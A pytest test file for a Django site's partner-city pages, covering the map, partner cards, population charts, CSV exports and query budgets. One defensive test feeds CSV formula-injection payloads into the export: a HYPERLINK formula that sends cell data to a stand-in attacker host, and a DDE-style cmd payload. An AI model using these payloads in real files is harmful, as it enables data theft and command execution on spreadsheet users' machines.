"""What a visitor sees on the partner pages: the map, the partners, the charts and the data."""

import csv
import io
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation

from partners import geo
from partners.models import Partner, PopulationFigure
from tests.factories import PartnerFactory, PopulationFigureFactory
from tests.html import parse


def number(text):
    """A number as a page shows it (83 250, 83,250, ≈83,250) read back as an int."""
    return int(re.sub(r"[^\d]", "", text))


@pytest.fixture
def daugavpils(db):
    partner = PartnerFactory(
        number="LP",
        slug="daugavpils",
        name_lv="Daugavpils pilsētas dome",
        name_en="Daugavpils City Council",
        native_name="Daugavpils pilsētas dome",
        native_name_language="lv",
        city_lv="Daugavpils",
        city_en="Daugavpils",
        country="LV",
        website="https://www.daugavpils.lv/",
        email="info@daugavpils.lv",
        latitude=Decimal("55.87500"),
        longitude=Decimal("26.53560"),
    )
    for year, value in [(2016, 85_858), (2017, 84_592), (2018, 83_250)]:
        PopulationFigureFactory(
            partner=partner, year=year, value=value, source_name="CSB", source_url="https://a12.lv/"
        )
    return partner


@pytest.fixture
def kaunas(db):
    partner = PartnerFactory(
        number="PP2",
        slug="kaunas",
        name_lv="Kauņas pilsētas pašvaldība",
        name_en="Kaunas City Municipality",
        native_name="Kauno miesto savivaldybės administracija",
        native_name_language="lt",
        city_lv="Kauņa",
        city_en="Kaunas",
        country="LT",
        latitude=Decimal("54.89720"),
        longitude=Decimal("23.88610"),
    )
    PopulationFigureFactory(partner=partner, year=2001, value=379_706)
    PopulationFigureFactory(partner=partner, year=2022, value=297_900, is_estimate=True)
    PopulationFigureFactory(partner=partner, year=2024, value=304_198)
    return partner


# The list page and its map


def test_map_shows_exactly_the_partners_in_the_database(client, make_network):
    partners = make_network(3)
    document = parse(client.get("/en/partners/"))
    markers = document.by_class("partner-map__marker")
    assert [m.attrs["href"] for m in markers] == [p.get_absolute_url() for p in partners]
    listed = [a.attrs["href"] for a in document.by_class("partner-map__item-link")]
    assert listed == [p.get_absolute_url() for p in partners]
    cards = [a.attrs["href"] for a in document.by_class("partner-card__link")]
    assert cards == [p.get_absolute_url() for p in partners]


def test_map_marker_of_a_known_city_sits_where_the_projection_puts_it(client, daugavpils):
    document = parse(client.get("/en/partners/"))
    (marker,) = document.by_class("partner-map__marker")
    (dot,) = [c for c in marker.children if c.attrs.get("class") == "partner-map__dot"]
    x, y = geo.project(55.8750, 26.5356)
    assert float(dot.attrs["cx"]) == pytest.approx(x, abs=0.1)
    assert float(dot.attrs["cy"]) == pytest.approx(y, abs=0.1)
    # Daugavpils lies in the east of the map, north of its centre (52°N).
    assert geo.VIEWBOX_WIDTH * 0.6 < x < geo.VIEWBOX_WIDTH
    svg = document.find("svg", class_="partner-map__svg")
    assert svg.attrs["data-projection"] == geo.VIEWBOX
    left, top, width, height = map(float, svg.attrs["viewbox"].split())
    assert left <= x <= left + width and top <= y <= top + height


def test_map_is_one_accessible_svg_with_the_base_map_and_a_named_link_per_city(
    client, daugavpils, kaunas
):
    document = parse(client.get("/lv/partneri/"))
    (svg,) = document.find_all("svg", class_="partner-map__svg")
    title = document.find("title", id=svg.attrs["aria-labelledby"])
    assert title.text == "Eiropas karte ar partneru pilsētām"
    assert document.by_class("map__land")[0].attrs["aria-hidden"] == "true"
    markers = document.by_class("partner-map__marker")
    assert [m.attrs["aria-label"] for m in markers] == [
        "Daugavpils: Daugavpils pilsētas dome",
        "Kauņa: Kauņas pilsētas pašvaldība",
    ]
    assert [m.text for m in markers] == ["Daugavpils", "Kauņa"]


def test_partner_cards_show_number_names_city_and_country_in_the_language(
    client, daugavpils, kaunas
):
    document = parse(client.get("/lv/partneri/"))
    card = document.by_class("partner-card")[1]
    assert document.by_class("partner-card__number")[1].text == "PP2"
    assert document.by_class("partner-card__meta")[1].texts == [" Partneris"]
    assert document.by_class("partner-card__title")[1].text == "Kauņas pilsētas pašvaldība"
    native = card.children[2]
    assert (native.text, native.attrs["lang"]) == ("Kauno miesto savivaldybės administracija", "lt")
    place = document.by_class("partner-card__place")[1]
    assert (place.children[0].text, place.texts) == ("Kauņa", [", Lietuva"])
    # The lead partner's own name is its Latvian name: not repeated.
    assert document.by_class("partner-card")[0].text.count("Daugavpils pilsētas dome") == 1


def test_list_page_without_partners_says_so(client, db):
    document = parse(client.get("/en/partners/"))
    assert document.find("h1").text == "Partners"
    assert "The partners will be listed here soon." in document.text
    assert document.by_class("partner-map__svg") == []


# The partner page


def test_partner_page_shows_names_place_and_contacts(client, daugavpils):
    document = parse(client.get("/en/partners/daugavpils/"))
    assert document.find("h1").text == "Daugavpils City Council"
    native = document.by_class("partner__native")[0]
    assert (native.text, native.attrs["lang"]) == ("Daugavpils pilsētas dome", "lv")
    facts = {
        div.children[0].text: div.children[1].text for div in document.by_class("partner__fact")
    }
    assert facts == {
        "City": "Daugavpils",
        "Country": "Latvia",
        "Website": "daugavpils.lv",
        "E-mail": "info@daugavpils.lv",
    }
    assert document.find("a", href="https://www.daugavpils.lv/") is not None
    assert document.find("a", href="mailto:info@daugavpils.lv") is not None


def test_unknown_partner_is_not_found(client, db):
    assert client.get("/lv/partneri/nav-tada/").status_code == 404
    assert client.get("/en/partners/no-such-partner/population.csv").status_code == 404


def test_partner_page_switcher_leads_to_its_twin(client, kaunas):
    document = parse(client.get("/lv/partneri/kaunas/"))
    switcher = {
        a.attrs["hreflang"]: a.attrs["href"] for a in document.by_class("language-switcher__link")
    }
    assert len(switcher) == 9
    assert switcher["lv"] == "/lv/partneri/kaunas/"
    assert switcher["en"] == "/en/partners/kaunas/"
    assert switcher["lt"] == "/lt/partneriai/kaunas/"


def test_english_page_marks_latvian_fallback_text(client, kaunas):
    Partner.objects.filter(pk=kaunas.pk).update(name_en=None, description_en="")
    document = parse(client.get("/en/partners/kaunas/"))
    assert document.find("h1").attrs.get("lang") == "lv"
    assert document.find("h1").text == "Kauņas pilsētas pašvaldība"
    assert document.by_class("translation-notice")


def test_chart_values_equal_the_stored_figures(client, kaunas):
    document = parse(client.get("/en/partners/kaunas/"))
    stored = list(
        PopulationFigure.objects.filter(partner=kaunas)
        .order_by("year")
        .values_list("year", "value")
    )
    for svg in document.by_class("chart__svg"):  # the wide chart and the phone one
        points = [
            (int(c.attrs["data-year"]), int(c.attrs["data-value"])) for c in within(svg, "circle")
        ]
        assert points == stored
        labels = {
            int(t.attrs["data-year"]): number(t.text) for t in within(svg, "text", "chart__value")
        }
        assert labels
        assert all(dict(stored)[year] == value for year, value in labels.items())
    assert table_figures(document.find("table", class_="population-table")) == stored


def test_chart_table_and_labels_use_the_language_number_format(client, daugavpils):
    # Latvian groups thousands with a (no-break) space, English with a comma.
    lv = client.get("/lv/partneri/daugavpils/").content.decode()
    en = client.get("/en/partners/daugavpils/").content.decode()
    for value in ["85\N{NO-BREAK SPACE}858", "84\N{NO-BREAK SPACE}592", "83\N{NO-BREAK SPACE}250"]:
        assert f">{value}</td>" in lv  # the table
        assert f">{value}</text>" in lv  # the chart's value labels
    for value in ["85,858", "84,592", "83,250"]:
        assert f">{value}</td>" in en
        assert f">{value}</text>" in en
    assert "83,250" not in lv
    assert "83\N{NO-BREAK SPACE}250" not in en


def test_chart_names_its_source_and_has_a_text_alternative(client, daugavpils):
    document = parse(client.get("/en/partners/daugavpils/"))
    figure = document.find("figure", class_="chart")
    caption = figure.children[-1]
    assert caption.tag == "figcaption"
    assert " ".join(caption.texts).split() == [
        "Source:",
        "CSB,",
        "as",
        "published",
        "on",
        "(2016,",
        "2017,",
        "2018).",
    ]
    (link,) = caption.children
    assert (link.text, link.attrs["href"]) == ("a12.lv", "https://a12.lv/")
    svg = document.by_class("chart__svg")[0]
    assert svg.attrs["role"] == "img"
    labelled_by = [
        next(e for e in document.elements if e.attrs.get("id") == i)
        for i in svg.attrs["aria-labelledby"].split()
    ]
    assert [e.text for e in labelled_by] == [
        "Line chart: population of Daugavpils by year",
        "From 85,858 in 2016 to 83,250 in 2018. Every figure is in the table below the chart.",
    ]
    assert document.find("details", class_="data-table") is not None


def test_estimates_are_marked_in_chart_and_table(client, kaunas):
    document = parse(client.get("/en/partners/kaunas/"))
    hollow = [
        c.attrs["data-year"]
        for c in within(document.by_class("chart__svg")[0], "circle")
        if "chart__point--estimate" in c.attrs["class"]
    ]
    assert hollow == ["2022"]
    (estimate_row,) = [
        r for r in rows(document.find("table", class_="population-table")) if r[0] == "2022"
    ]
    assert number(estimate_row[2]) == 297_900
    assert "≈" in estimate_row[2]
    assert "≈ marks an estimate" in document.text


def test_figures_without_a_source_are_not_shown_anywhere(client, kaunas):
    PopulationFigureFactory(partner=kaunas, year=2011, value=316_000, source_url="")
    PopulationFigureFactory(partner=kaunas, year=2018, value=288_000, source_name="")
    page = client.get("/en/partners/kaunas/").content.decode()
    assert "316,000" not in page and "288,000" not in page
    assert 'data-year="2011"' not in page and 'data-year="2018"' not in page
    csv_text = client.get("/en/partners/kaunas/population.csv").content.decode()
    assert "316000" not in csv_text and "288000" not in csv_text


def test_region_and_country_figures_get_their_own_sections(client, kaunas):
    PopulationFigureFactory(
        partner=kaunas, area="region", year=2001, value=702_090, area_name_en="Kaunas County"
    )
    PopulationFigureFactory(
        partner=kaunas, area="region", year=2003, value=696_143, area_name_en="Kaunas County"
    )
    PopulationFigureFactory(
        partner=kaunas, area="country", year=2021, value=2_810_761, area_name_en="Lithuania"
    )
    document = parse(client.get("/en/partners/kaunas/"))
    titles = [h.text for h in document.by_class("population-series__title")]
    assert titles == ["City: Kaunas", "Region: Kaunas County", "Country: Lithuania"]
    # One figure makes no line: the country shows as a table only.
    country = document.find("section", id="population-country")
    assert within(country, "svg") == []
    assert table_figures(within(country, "table")[0]) == [(2021, 2_810_761)]


def test_an_area_name_standing_in_for_a_missing_translation_is_marked_with_its_language(
    client, kaunas
):
    for year, value in ((2001, 702_090), (2003, 696_143)):
        PopulationFigureFactory(
            partner=kaunas,
            area="region",
            year=year,
            value=value,
            area_name_en="Kaunas County",
            area_name_lt="Kauno apskritis",
        )
    with translation.override("lt"):
        lithuanian = parse(client.get(reverse("partners:detail", args=["kaunas"])))
    with translation.override("de"):
        german = parse(client.get(reverse("partners:detail", args=["kaunas"])))

    title = lithuanian.find("h3", id="population-region-title")
    assert title.text == "Regionas: Kauno apskritis"
    assert [child for child in title.children if "lang" in child.attrs] == []
    title = german.find("h3", id="population-region-title")
    assert title.text == "Region: Kaunas County"
    assert [(span.attrs.get("lang"), span.text) for span in title.children] == [
        ("en", "Kaunas County")
    ]
    caption = next(c for c in german.find_all("caption") if "Kaunas County" in c.text)
    assert [(span.attrs.get("lang"), span.text) for span in caption.children] == [
        ("en", "Kaunas County")
    ]


def test_partner_without_published_figures_says_so(client, db):
    PartnerFactory(slug="quiet")
    document = parse(client.get("/en/partners/quiet/"))
    assert "No population figures with a named source" in document.text
    assert document.by_class("chart__svg") == []


def test_partner_page_has_its_population_section(client, kaunas):
    document = parse(client.get("/en/partners/kaunas/"))
    assert document.find("section", id="population") is not None


# The comparison page


def test_comparison_shows_each_citys_change_since_its_first_figure(client, daugavpils, kaunas):
    document = parse(client.get("/en/partners/population/"))
    assert document.find("h1").text == "Population change in the partner cities"
    table = document.by_class("comparison-table")[0]
    assert [row[0] for row in rows(table)] == ["Daugavpils", "Kaunas"]
    changes = [row[5] for row in rows(table)]
    # (83,250 − 85,858) / 85,858 and (304,198 − 379,706) / 379,706
    assert changes == ["−3.0%", "−19.9%"]
    wide = document.by_class("chart__svg--wide")[0]
    series = within(wide, "g", "chart__series")
    assert [g.attrs["data-name"] for g in series] == ["Daugavpils", "Kaunas"]
    kaunas_points = [
        (int(c.attrs["data-year"]), Decimal(c.attrs["data-percent"]))
        for c in within(series[1], "circle")
    ]
    assert kaunas_points == [
        (2001, Decimal("0.00")),
        (2022, Decimal("-21.54")),
        (2024, Decimal("-19.89")),
    ]
    end_labels = [t.text for t in within(wide, "text", "chart__end-label")]
    assert end_labels == ["Daugavpils −3.0%", "Kaunas −19.9%"]


def test_comparison_in_latvian_uses_latvian_names_and_number_format(client, daugavpils, kaunas):
    document = parse(client.get("/lv/partneri/iedzivotaji/"))
    table = document.by_class("comparison-table")[0]
    assert [row[0] for row in rows(table)] == ["Daugavpils", "Kauņa"]
    html = client.get("/lv/partneri/iedzivotaji/").content.decode()
    assert ">−3,0\N{NO-BREAK SPACE}%</td>" in html
    assert [row[5] for row in rows(table)] == [
        "−3,0 %",
        "−19,9 %",
    ]


def test_comparison_leaves_out_cities_with_fewer_than_two_figures(client, daugavpils):
    lonely = PartnerFactory(number="PP3", slug="lonely")
    PopulationFigureFactory(partner=lonely, year=2020)
    document = parse(client.get("/en/partners/population/"))
    assert [row[0] for row in rows(document.by_class("comparison-table")[0])] == ["Daugavpils"]


# CSV


def read_csv(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def test_network_csv_round_trips_every_published_figure(client, daugavpils, kaunas):
    PopulationFigureFactory(partner=kaunas, year=2011, value=316_000, source_url="")
    PopulationFigureFactory(
        partner=kaunas, area="region", year=2003, value=696_143, area_name_en="Kaunas County"
    )
    rows_ = read_csv(client.get("/en/partners/population.csv"))
    read_back = {
        (row["partner_number"], row["area"], int(row["year"])): (
            int(row["population"]),
            row["estimate"] == "yes",
            row["source"],
            row["source_url"],
        )
        for row in rows_
    }
    stored = {
        (f.partner.number, f.area, f.year): (f.value, f.is_estimate, f.source_name, f.source_url)
        for f in PopulationFigure.objects.published().select_related("partner")
    }
    assert read_back == stored
    assert len(rows_) == len(stored) == 7
    kaunas_region = next(row for row in rows_ if row["area"] == "region")
    assert kaunas_region["area_name"] == "Kaunas County"
    assert kaunas_region["country_code"] == "LT"


def test_partner_csv_holds_that_partners_figures_in_the_language(client, daugavpils, kaunas):
    response = client.get("/lv/partneri/kaunas/population.csv")
    assert response["Content-Disposition"] == (
        'attachment; filename="decode-population-kaunas-lv.csv"'
    )
    rows_ = read_csv(response)
    assert {row["partner_number"] for row in rows_} == {"PP2"}
    assert {row["city"] for row in rows_} == {"Kauņa"}
    assert {row["country"] for row in rows_} == {"Lietuva"}
    assert [(int(r["year"]), int(r["population"])) for r in rows_] == [
        (2001, 379_706),
        (2022, 297_900),
        (2024, 304_198),
    ]


def test_csv_links_are_on_the_pages(client, kaunas):
    detail = parse(client.get("/en/partners/kaunas/"))
    assert detail.find("a", href="/en/partners/kaunas/population.csv") is not None
    listing = parse(client.get("/en/partners/"))
    assert listing.find("a", href="/en/partners/population.csv") is not None


def test_urls_are_translated_and_slugs_are_not():
    with translation.override("lv"):
        assert reverse("partners:list") == "/lv/partneri/"
        assert reverse("partners:population") == "/lv/partneri/iedzivotaji/"
        assert reverse("partners:detail", kwargs={"slug": "kaunas"}) == "/lv/partneri/kaunas/"
        assert reverse("partners:network_population_csv") == "/lv/partneri/population.csv"
    with translation.override("en"):
        assert reverse("partners:population") == "/en/partners/population/"
        assert reverse("partners:population_csv", kwargs={"slug": "kaunas"}) == (
            "/en/partners/kaunas/population.csv"
        )


# Query budgets: the same number of queries for 3 partners as for 30


@pytest.mark.parametrize(
    "path", ["/lv/partneri/", "/en/partners/population/", "/en/partners/population.csv"]
)
def test_network_pages_use_a_fixed_number_of_queries(
    client, make_network, django_assert_num_queries, path
):
    make_network(3, figures=3)
    with django_assert_num_queries(QUERIES[path]):
        small = client.get(path)
    make_network(30, figures=10)
    with django_assert_num_queries(QUERIES[path]):
        large = client.get(path)
    assert small.status_code == large.status_code == 200
    assert len(large.content) > len(small.content)


@pytest.mark.parametrize("path", ["/en/partners/{slug}/", "/en/partners/{slug}/population.csv"])
def test_partner_page_uses_a_fixed_number_of_queries(
    client, make_network, django_assert_num_queries, path
):
    partners = make_network(3, figures=3)
    with django_assert_num_queries(QUERIES[path]):
        client.get(path.format(slug=partners[1].slug))
    partners = make_network(30, figures=30)
    with django_assert_num_queries(QUERIES[path]):
        response = client.get(path.format(slug=partners[-1].slug))
    assert response.status_code == 200


# One query for the partners, one for their published figures where shown.
QUERIES = {
    "/lv/partneri/": 1,
    "/en/partners/population/": 2,
    "/en/partners/population.csv": 2,
    "/en/partners/{slug}/": 6,  # + its sources, meetings hosted, practices, kit files
    "/en/partners/{slug}/population.csv": 2,
}


# Helpers for reading the pages


def descendants(element):
    for child in element.children:
        yield child
        yield from descendants(child)


def within(element, tag, class_name=None):
    return [
        e
        for e in descendants(element)
        if e.tag == tag and (class_name is None or class_name in e.attrs.get("class", "").split())
    ]


def rows(table):
    """The body rows of a table as lists of cell texts."""
    body = within(table, "tbody")[0]
    return [[cell.text for cell in row.children] for row in within(body, "tr")]


def table_figures(table):
    """(year, population) per row, read from the cells a visitor sees."""
    return [(int(row[0]), number(row[2])) for row in rows(table)]


def test_csv_cells_an_editor_typed_never_run_as_formulas(client, daugavpils, kaunas):
    PopulationFigure.objects.filter(partner=kaunas).update(
        source_name='=HYPERLINK("http://evil.example/?"&A1,"Statistics")'
    )
    kaunas.name_en = "+cmd|' /C calc'!A0"
    kaunas.city_en = "@SUM(1+1)"
    kaunas.save()

    rows_ = read_csv(client.get("/en/partners/kaunas/population.csv"))

    assert rows_
    for row in rows_:
        assert row["source"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Statistics")'
        assert row["partner"] == "'+cmd|' /C calc'!A0"
        assert row["city"] == "'@SUM(1+1)"
        assert row["population"].isdigit()  # numbers stay numbers


def test_the_csv_writer_neutralises_every_formula_start_and_keeps_numbers():
    import io as text_io

    from common.spreadsheets import SafeWriter

    out = text_io.StringIO()
    SafeWriter(out).writerow(["-2+3", "@x", "\tx", "ok", -5, 7, "a-b"])

    assert next(csv.reader(text_io.StringIO(out.getvalue()))) == [
        "'-2+3",
        "'@x",
        "'\tx",
        "ok",
        "-5",
        "7",
        "a-b",
    ]


@pytest.mark.parametrize(
    ("path", "says", "not_said"),
    [
        (
            "/en/partners/magdeburg/",
            "Residents counted by statistical offices.",
            "national statistical offices",
        ),
        (
            "/lv/partneri/magdeburg/",
            "Iedzīvotāju skaits pēc statistikas iestāžu datiem.",
            "valstu statistikas iestāžu",
        ),
    ],
)
def test_population_intro_does_not_call_a_city_register_national(
    client, demo, path, says, not_said
):
    # Magdeburg's figures come from the city's own statistics office, not a national one.
    document = parse(client.get(path))

    assert "Amt für Statistik Magdeburg" in document.text
    assert says in document.text
    assert not_said not in document.text
